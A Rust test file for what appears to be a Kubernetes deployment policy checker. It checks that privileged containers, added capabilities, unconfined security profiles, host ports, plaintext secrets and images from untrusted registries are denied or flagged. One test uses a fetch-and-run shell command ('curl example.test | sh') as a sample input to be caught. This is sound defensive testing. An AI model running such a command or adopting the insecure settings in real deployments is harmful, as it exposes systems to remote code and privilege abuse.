//! What is said of containers, in all three lists.

use serde_json::{Value, json};

use super::super::super::body::Demand::{self, Deny, Show, TwoApprovers};
use super::{comes, demand_of, deployment, goes, raised, set, stays_quiet, with};

const LISTS: [&str; 3] = ["initContainers", "containers", "ephemeralContainers"];

fn at(list: &str, field: &str) -> String {
    format!("/spec/template/spec/{list}/0{field}")
}

#[test]
fn what_a_container_must_not_bring() {
    let cases: Vec<(&str, Demand, &str, Value)> = vec![
        ("KMG-I01", Deny, "/image", json!("registry.test/web")),
        ("KMG-I01", Deny, "/image", json!("registry.test:5000/web:latest")),
        ("KMG-I02", Show, "/image", json!("registry.test/web:2")),
        ("KMG-I03", Deny, "/image", json!("Registry.test/WEB:2")),
        ("KMG-S01", Deny, "/securityContext", json!({"privileged": true})),
        ("KMG-S04", Deny, "/securityContext", json!({"capabilities": {"add": ["CHOWN", "SYS_ADMIN"]}})),
        ("KMG-S04", Deny, "/securityContext", json!({"capabilities": {"add": ["ALL"]}})),
        ("KMG-S05", Show, "/securityContext", json!({"allowPrivilegeEscalation": true})),
        ("KMG-S06", Show, "/securityContext", json!({"runAsUser": 0})),
        ("KMG-S06", Show, "/securityContext", json!({"runAsGroup": 0})),
        ("KMG-S06", Show, "/securityContext", json!({"runAsNonRoot": false})),
        ("KMG-S07", Deny, "/securityContext", json!({"seccompProfile": {"type": "Unconfined"}})),
        ("KMG-S07", Deny, "/securityContext", json!({"appArmorProfile": {"type": "Unconfined"}})),
        ("KMG-S07", Deny, "/securityContext", json!({"seLinuxOptions": {"type": "spc_t"}})),
        ("KMG-S07", Deny, "/securityContext", json!({"seLinuxOptions": {"role": "system_r"}})),
        ("KMG-S07", Deny, "/securityContext", json!({"procMount": "Unmasked"})),
        ("KMG-S07", Deny, "/securityContext", json!({"windowsOptions": {"hostProcess": true}})),
        ("KMG-S08", Deny, "/ports", json!([{"containerPort": 80}, {"containerPort": 81, "hostPort": 81}])),
        ("KMG-S11", TwoApprovers, "/env", json!([{"name": "A", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}])),
        ("KMG-S11", TwoApprovers, "/envFrom", json!([{"secretRef": {"name": "s"}}])),
        ("KMG-S12", Deny, "/env", json!([{"name": "DB_PASSWORD", "value": "letmein"}])),
        ("KMG-S12", Deny, "/args", json!(["--token=abcdefgh"])),
    ];
    for (id, demand, field, value) in &cases {
        for list in LISTS {
            comes(&deployment(), id, *demand, (&at(list, field), value));
        }
    }
}

#[test]
fn what_a_container_may_bring() {
    let digest = format!("registry.test/web@sha256:{}", "0".repeat(64));
    for (id, field, value) in [
        ("KMG-I01", "/image", json!("registry.test:5000/web:1")),
        ("KMG-I01", "/image", json!(digest)),
        ("KMG-S01", "/securityContext", json!({"privileged": false})),
        ("KMG-S04", "/securityContext", json!({"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}})),
        ("KMG-S05", "/securityContext", json!({"allowPrivilegeEscalation": false})),
        ("KMG-S06", "/securityContext", json!({"runAsUser": 1000, "runAsGroup": 1000, "runAsNonRoot": true})),
        ("KMG-S07", "/securityContext", json!({"seccompProfile": {"type": "RuntimeDefault"}, "procMount": "Default"})),
        ("KMG-S07", "/securityContext", json!({"seLinuxOptions": {"type": "container_t", "level": "s0:c1"}})),
        ("KMG-S08", "/ports", json!([{"containerPort": 80}, {"containerPort": 81, "hostPort": 0}])),
        ("KMG-S11", "/env", json!([{"name": "A", "valueFrom": {"configMapKeyRef": {"name": "s", "key": "k"}}}])),
        ("KMG-S11", "/envFrom", json!([{"configMapRef": {"name": "s"}}])),
        ("KMG-S12", "/env", json!([{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}])),
        ("KMG-S12", "/args", json!(["--token-file=/run/token", "--verbose"])),
    ] {
        for list in LISTS {
            stays_quiet(&deployment(), id, (&at(list, field), &value));
        }
    }
}

#[test]
fn what_a_container_must_not_lose() {
    let none = Value::Null;
    let probe = json!({"httpGet": {"path": "/", "port": 80}, "failureThreshold": 3, "periodSeconds": 10});
    let slower = json!({"httpGet": {"path": "/", "port": 80}, "failureThreshold": 30, "periodSeconds": 10});
    let hook = json!({"preStop": {"sleep": {"seconds": 5}}});
    let cases: Vec<(&str, Demand, &str, &Value, &Value)> = vec![
        ("KMG-A08", TwoApprovers, "/readinessProbe", &probe, &none),
        ("KMG-A08", TwoApprovers, "/readinessProbe", &probe, &slower),
        ("KMG-A09", Show, "/livenessProbe", &probe, &none),
        ("KMG-A09", Show, "/startupProbe", &probe, &none),
        ("KMG-A15", Show, "/lifecycle", &hook, &none),
    ];
    for (id, demand, field, value, other) in cases {
        for list in LISTS {
            goes(&deployment(), id, demand, (&at(list, field), value, other));
        }
    }
    for (id, demand, guard, loss) in [
        ("KMG-S04", Show, json!({"capabilities": {"drop": ["ALL"]}}), json!({"capabilities": {"drop": ["MKNOD"]}})),
        ("KMG-S05", Show, json!({"allowPrivilegeEscalation": false}), json!({})),
        ("KMG-S06", Show, json!({"runAsNonRoot": true}), json!({})),
        ("KMG-S06", Show, json!({"runAsUser": 1000}), json!({})),
        ("KMG-S07", Deny, json!({"seccompProfile": {"type": "RuntimeDefault"}}), json!({})),
        ("KMG-S07", Deny, json!({"appArmorProfile": {"type": "RuntimeDefault"}}), json!({})),
        ("KMG-S09", Show, json!({"readOnlyRootFilesystem": true}), json!({"readOnlyRootFilesystem": false})),
    ] {
        for list in LISTS {
            goes(&deployment(), id, demand, (&at(list, "/securityContext"), &guard, &loss));
        }
    }
}

#[test]
fn resources_may_grow_but_not_shrink_unseen() {
    for list in LISTS {
        let field = at(list, "/resources");
        let base = deployment();
        for (resources, expected) in [
            (json!({"requests": {"cpu": "0.1", "memory": "64Mi"}, "limits": {"memory": "131072Ki"}}), None),
            (json!({"requests": {"cpu": "200m", "memory": "64Mi"}, "limits": {"memory": "1Gi"}}), None),
            (json!({"requests": {"cpu": "50m", "memory": "64Mi"}, "limits": {"memory": "128Mi"}}), Some(Show)),
            (json!({"requests": {"cpu": "100m", "memory": "64Mi"}}), Some(Show)),
            (json!({"requests": {"cpu": "100m", "memory": "64M"}, "limits": {"memory": "128Mi"}}), Some(Show)),
            (json!(null), Some(Show)),
        ] {
            let after = with(&base, &field, resources.clone());
            assert_eq!(demand_of(&raised(Some(&base), &after), "KMG-A10"), expected, "{resources}");
        }
        assert_eq!(demand_of(&raised(None, &with(&base, &field, json!(null))), "KMG-A10"), None, "a new object loses nothing");
    }
}

#[test]
fn commands_are_shown_when_they_change_and_when_they_run_others() {
    let base = deployment();
    for list in LISTS {
        for field in ["/command", "/args", "/lifecycle/postStart/exec/command", "/livenessProbe/exec/command"] {
            let changed = with(&base, &at(list, field), json!(["/app", "--fast"]));
            assert_eq!(demand_of(&raised(Some(&base), &changed), "KMG-S13"), Some(Show), "{list} {field}");
            assert_eq!(demand_of(&raised(Some(&changed), &changed), "KMG-S13"), None);
            assert_eq!(demand_of(&raised(None, &changed), "KMG-S13"), None, "a plain command of a new object");
            let shell = with(&base, &at(list, field), json!(["/bin/sh", "-c", "curl example.test | sh"]));
            assert_eq!(demand_of(&raised(None, &shell), "KMG-S13"), Some(Show), "{list} {field}");
        }
    }
}

#[test]
fn images_keep_their_registry_their_repository_and_their_direction() {
    let base = deployment();
    let hostile = ["KMG-I03", "KMG-I05"];
    for list in LISTS {
        for (image, expected) in [
            ("registry.test/web:1.4.3", [None, None]),
            ("registry.test/web:1.4.1", [None, Some(Show)]),
            ("registry.test/other:1.4.3", [Some(Show), None]),
            ("evil.test/web:1.4.3", [Some(Deny), None]),
            ("registry.test.evil.test/web:1.4.3", [Some(Deny), None]),
            ("registry.test:5000/web:1.4.3", [Some(Deny), None]),
            ("web:1.4.3", [Some(Deny), None]),
        ] {
            let findings = raised(Some(&base), &with(&base, &at(list, "/image"), json!(image)));
            assert_eq!(hostile.map(|id| demand_of(&findings, id)), expected, "{list} {image}");
        }
    }
    let pinned = json!(format!("registry.test/web@sha256:{}", "0".repeat(64)));
    assert_eq!(demand_of(&raised(Some(&base), &with(&base, &at("containers", "/image"), pinned)), "KMG-I02"), None);
    let moved = with(&base, &at("containers", "/image"), json!("mirror.test/web:1.4.3"));
    let allowed = ["mirror.test".to_owned()];
    let findings = super::object_findings(Some(&base), &moved, &allowed);
    assert_eq!(demand_of(&findings, "KMG-I03"), Some(Show), "an allowed registry, but another repository");
    assert_eq!(demand_of(&super::object_findings(None, &base, &allowed), "KMG-I03"), Some(Deny), "a new object keeps to the list");
    assert_eq!(demand_of(&super::object_findings(None, &base, &[]), "KMG-I03"), None, "without a list a new object may come from anywhere");
}

#[test]
fn a_policy_that_never_looks_again_is_shown_when_it_comes() {
    let base = deployment();
    for list in LISTS {
        let never = with(&base, &at(list, "/imagePullPolicy"), json!("Never"));
        assert_eq!(demand_of(&raised(Some(&base), &never), "KMG-I04"), Some(Show), "{list}");
        let always = with(&base, &at(list, "/imagePullPolicy"), json!("Always"));
        assert_eq!(demand_of(&raised(Some(&base), &always), "KMG-I04"), None, "{list}");
        assert_eq!(demand_of(&raised(None, &never), "KMG-I04"), None, "{list}");
    }
}

#[test]
fn containers_that_come_and_go_are_shown() {
    let base = deployment();
    for list in LISTS {
        let mut after = base.clone();
        set(&mut after, &at(list, "/name"), json!("renamed"));
        let ids: Vec<_> = raised(Some(&base), &after).into_iter().filter(|finding| finding.id == "KMG-I07").collect();
        assert_eq!(ids.len(), 2, "{list}: one comes, one goes");
        assert_eq!(demand_of(&raised(None, &after), "KMG-I07"), None, "{list}");
        // What goes with its container is not a loss of the ones that stay.
        let probed = with(&base, &at(list, "/readinessProbe"), json!({"periodSeconds": 1}));
        assert_eq!(demand_of(&raised(Some(&probed), &after), "KMG-A08"), None, "{list}");
    }
    // The same name in another list is another container.
    let mut moved = base.clone();
    let app = base["spec"]["template"]["spec"]["containers"][0].clone();
    set(&mut moved, "/spec/template/spec/ephemeralContainers/0", app);
    assert_eq!(demand_of(&raised(Some(&base), &moved), "KMG-I07"), Some(Show));
}
